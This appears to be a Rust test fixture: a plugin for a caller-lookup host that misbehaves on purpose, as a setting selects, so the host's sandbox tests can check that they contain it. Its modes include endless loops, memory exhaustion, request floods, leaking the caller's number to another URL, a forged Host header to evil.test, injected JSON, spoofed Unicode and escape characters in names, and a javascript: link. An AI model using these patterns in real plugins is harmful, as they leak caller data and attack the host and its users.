//! A plugin that misbehaves as its setting `behaviour` says: the host's tests hold it.

use plugin_api::{
    Actions, Call, Card, Change, Effect, Entity, Error, Lookup, Phone, PhoneKind, http, log, setting,
};

/// The plugin.
struct Hostile;

impl Lookup for Hostile {
    fn find(call: Call) -> Result<Vec<Card>, Error> {
        let number = call.remote.e164.clone().unwrap_or_default();
        match setting("behaviour")?.as_str() {
            "good" => ask(&number).map(|()| vec![card("Alice Schmidt", &number)]),
            "loop" => forever(),
            "memory" => hoard(),
            "panic" => panic!("as it was told"),
            "recursion" => Ok(vec![card(&deeper(u64::MAX).to_string(), &number)]),
            "huge" => Ok(vec![Card { name: "x".repeat(20_000_000), ..card("", &number) }]),
            "many" => Ok((0..1_000_000).map(|_| card("A", &number)).collect()),
            "log" => babble(),
            "elsewhere" => {
                http::Request::get(setting("other_url")?).query("n", &number).send()?;
                Ok(vec![card("Eve", &number)])
            }
            "requests" => {
                (0..1000).for_each(|_| drop(http::Request::get("https://crm.example/").send()));
                Ok(vec![card("Eve", &number)])
            }
            "header" => {
                let base = setting("base_url")?;
                http::Request::get(format!("{base}/api/contacts")).header("Host", "evil.test").send()?;
                Ok(vec![card("Eve", &number)])
            }
            "name" => {
                let base = setting("base_url")?;
                let name = call.remote_name.unwrap_or_default();
                http::Request::post_json(format!("{base}/api/log"), format!("{{\"who\":\"{name}\"}}"))
                    .send()?;
                Ok(vec![card("Eve", &number)])
            }
            "other" => Ok(vec![card("Somebody else", "+4940999999")]),
            "deceive" => Ok(vec![Card {
                url: Some("http://evil.test/contacts/7".to_owned()),
                ..card("\u{202e}Al\u{0}ice\nSchmidt\u{1b}[31m", &number)
            }]),
            other => Err(Error::NotConfigured(format!("no behaviour is called {other}"))),
        }
    }
}

impl Actions for Hostile {
    fn react(_call: Call, change: Change, card: Option<Card>) -> Result<Vec<Effect>, Error> {
        let Change::Answered = change else { return Ok(Vec::new()) };
        assert!(setting("behaviour")? != "panic", "as it was told");
        let base = setting("base_url")?;
        let found = card.map(|card| card.entity.id).unwrap_or_default();
        Ok(vec![
            Effect::OpenRecord("http://evil.test/contacts/7".to_owned()),
            Effect::OpenRecord("javascript:alert(1)".to_owned()),
            Effect::OpenRecord(format!("{base}/contacts/{found}")),
        ])
    }
}

/// Asks the granted server and believes whatever it says.
fn ask(number: &str) -> Result<(), Error> {
    let base = setting("base_url")?;
    http::Request::get(format!("{base}/api/contacts")).query("phone", number).send()?.ok()?;
    Ok(())
}

fn forever() -> ! {
    let mut n = 0u64;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

/// Asks for 1 GiB, and touches it.
fn hoard() -> ! {
    let mut all = Vec::new();
    for _ in 0..1024 {
        all.push(vec![1u8; 1024 * 1024]);
    }
    panic!("got {} MiB", all.len())
}

/// Keeps nothing in the memory it may use, only on the engine's stack; what it computes cannot be turned into a loop.
fn deeper(left: u64) -> u64 {
    if left == 0 { 1 } else { deeper(left - 1).rotate_left(3).wrapping_add(left) }
}

fn babble() -> ! {
    loop {
        log::write(&log::Level::Info, "again");
    }
}

fn card(name: &str, number: &str) -> Card {
    Card {
        entity: Entity { module: "contact".to_owned(), id: "7".to_owned() },
        name: name.to_owned(),
        company: Some("ACME GmbH".to_owned()),
        job_title: None,
        phones: vec![Phone { kind: PhoneKind::Work, value: number.to_owned() }],
        emails: Vec::new(),
        url: None,
        score: 100,
        attrs: Vec::new(),
    }
}

plugin_api::export!(Hostile: lookup, actions);
